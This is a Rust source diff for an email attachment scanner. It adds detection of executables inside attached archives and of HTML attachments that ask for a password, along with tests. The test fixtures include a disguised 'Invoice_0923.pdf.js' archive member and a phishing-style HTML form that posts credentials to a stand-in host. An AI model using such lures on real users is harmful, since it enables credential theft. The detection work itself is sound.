@@ -1,7 +1,7 @@
 //! `attachments.*` rules: what is attached, by name, declared type and content.
 
 use crate::message::MessageView;
-use crate::rules::{DANGEROUS_ATTACHMENT, MACRO_OFFICE, TYPE_MISMATCH};
+use crate::rules::{DANGEROUS_ATTACHMENT, HTML_CREDENTIAL_FORM, MACRO_OFFICE, TYPE_MISMATCH};
 use crate::verdict::{Evidence, Findings};
 
 /// Extensions that run code when opened on Windows or macOS, or mount as a disk.
@@ -27,6 +27,7 @@ const PROGRAM_TYPES: &[&str] = &[
 
 pub(crate) fn check(view: &MessageView, out: &mut Findings<'_>) {
     dangerous(view, out);
+    html_credential_form(view, out);
     macro_office(view, out);
     type_mismatch(view, out);
 }
@@ -47,38 +48,65 @@ fn extensions(name: &str) -> Vec<String> {
         .collect()
 }
 
-/// `attachments.dangerous_type`: a program, script or disk image, by name or by content; a
-/// right-to-left override or a document extension in front makes it stronger.
+/// Why a file is dangerous, if it is: a program by extension (with a right-to-left override or
+/// a document extension in front as the stronger reasons) or by content.
+fn danger(name: &str, sniffed: Option<&str>) -> Option<&'static str> {
+    let ext = extensions(name);
+    let by_name = ext.len() > 1 && ext.first().is_some_and(|e| DANGEROUS.contains(&e.as_str()));
+    let by_content = sniffed.is_some_and(|t| PROGRAM_TYPES.contains(&t));
+    Some(if name.contains('\u{202e}') && (by_name || by_content) {
+        "right_to_left_override"
+    } else if by_name && ext.get(1).is_some_and(|e| DOCUMENT.contains(&e.as_str())) {
+        "double_extension"
+    } else if by_name {
+        "extension"
+    } else if by_content {
+        "content"
+    } else {
+        return None;
+    })
+}
+
+/// `attachments.dangerous_type`: a program, script or disk image, by name or by content, or
+/// listed inside an attached archive; a right-to-left override or a document extension in
+/// front makes it stronger.
 fn dangerous(view: &MessageView, out: &mut Findings<'_>) {
-    for a in &view.attachments {
+    let direct = view.attachments.iter().find_map(|a| {
         let name = a.name.as_deref().unwrap_or("");
-        let ext = extensions(name);
-        let by_name = ext.len() > 1 && ext.first().is_some_and(|e| DANGEROUS.contains(&e.as_str()));
-        let by_content = a.sniffed_type.is_some_and(|t| PROGRAM_TYPES.contains(&t));
-        if !by_name && !by_content {
-            continue;
-        }
-        let reason = if name.contains('\u{202e}') {
-            "right_to_left_override"
-        } else if by_name && ext.get(1).is_some_and(|e| DOCUMENT.contains(&e.as_str())) {
-            "double_extension"
-        } else if by_name {
-            "extension"
-        } else {
-            "content"
-        };
-        let strength = match reason {
-            "right_to_left_override" | "double_extension" => 1.0,
-            _ => 0.8,
-        };
-        out.add(
-            &DANGEROUS_ATTACHMENT,
-            strength,
-            Evidence::new()
-                .with("name", shown_name(name))
-                .with("reason", reason),
-        );
+        danger(name, a.sniffed_type).map(|r| (shown_name(name), r))
+    });
+    let inside = || {
+        view.attachments.iter().find_map(|a| {
+            let archive = a.name.as_deref().unwrap_or("archive");
+            a.members.iter().find_map(|m| {
+                let file = m.rsplit(['/', '\\']).next().unwrap_or(m);
+                danger(file, None)
+                    .map(|_| (shown_name(&format!("{archive}/{m}")), "archive_member"))
+            })
+        })
+    };
+    let Some((name, reason)) = direct.or_else(inside) else {
         return;
+    };
+    let strength = match reason {
+        "extension" | "content" => 0.8,
+        _ => 1.0,
+    };
+    out.add(
+        &DANGEROUS_ATTACHMENT,
+        strength,
+        Evidence::new().with("name", name).with("reason", reason),
+    );
+}
+
+/// `attachments.html_credential_form`: an HTML file that asks for a password.
+fn html_credential_form(view: &MessageView, out: &mut Findings<'_>) {
+    if let Some(a) = view.attachments.iter().find(|a| a.password_form) {
+        out.add(
+            &HTML_CREDENTIAL_FORM,
+            1.0,
+            Evidence::new().with("name", shown_name(a.name.as_deref().unwrap_or(""))),
+        );
     }
 }
 
@@ -193,6 +221,57 @@ mod tests {
     }
 
     const PDF: &[u8] = b"%PDF-1.7\n1 0 obj\n";
+
+    #[test]
+    fn programs_inside_archives_are_read_from_the_directory() {
+        use crate::message::archive::tests::zip;
+        let bad = zip(&[
+            ("scan/invoice.pdf", PDF),
+            ("scan/Invoice_0923.pdf.js", b"var x"),
+        ]);
+        let v = with_attachment("invoice.zip", "application/zip", &bad);
+        assert_eq!(
+            evidence(&v, "attachments.dangerous_type", "reason").as_deref(),
+            Some("archive_member")
+        );
+        assert_eq!(
+            evidence(&v, "attachments.dangerous_type", "name").as_deref(),
+            Some("invoice.zip/scan/Invoice_0923.pdf.js")
+        );
+        let fine = zip(&[("PI-2026-031.pdf", PDF), ("packing list.xlsx", b"PK")]);
+        assert!(!with_attachment("docs.zip", "application/zip", &fine)
+            .has("attachments.dangerous_type"));
+        // An Office file is a ZIP archive too; its parts are not programs.
+        let docx = zip(&[
+            ("[Content_Types].xml", b"<x/>"),
+            ("word/document.xml", b"<w/>"),
+        ]);
+        let v = with_attachment(
+            "contract.docx",
+            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
+            &docx,
+        );
+        assert!(v.findings().is_empty(), "{:?}", v.findings());
+    }
+
+    #[test]
+    fn html_attachments_asking_for_a_password() {
+        let page = b"<html><body><img src=\"data:image/png;base64,AA==\"><form action=\"https://login-m365.example/p\" method=post>\
+                     <input type=\"email\" name=\"u\"><input type=\"password\" name=\"p\"></form></body></html>";
+        let v = with_attachment("Remittance_Advice.html", "text/html", page);
+        assert_eq!(
+            evidence(&v, "attachments.html_credential_form", "name").as_deref(),
+            Some("Remittance_Advice.html")
+        );
+        // Declared as something else, named .htm: still read.
+        assert!(
+            with_attachment("scan.htm", "application/octet-stream", page)
+                .has("attachments.html_credential_form")
+        );
+        let newsletter = b"<html><body><p>Forgot your password? Visit our site.</p></body></html>";
+        assert!(!with_attachment("news.html", "text/html", newsletter)
+            .has("attachments.html_credential_form"));
+    }
     const EXE: &[u8] = b"MZ\x90\x00\x03\x00\x00\x00";
 
     #[test]
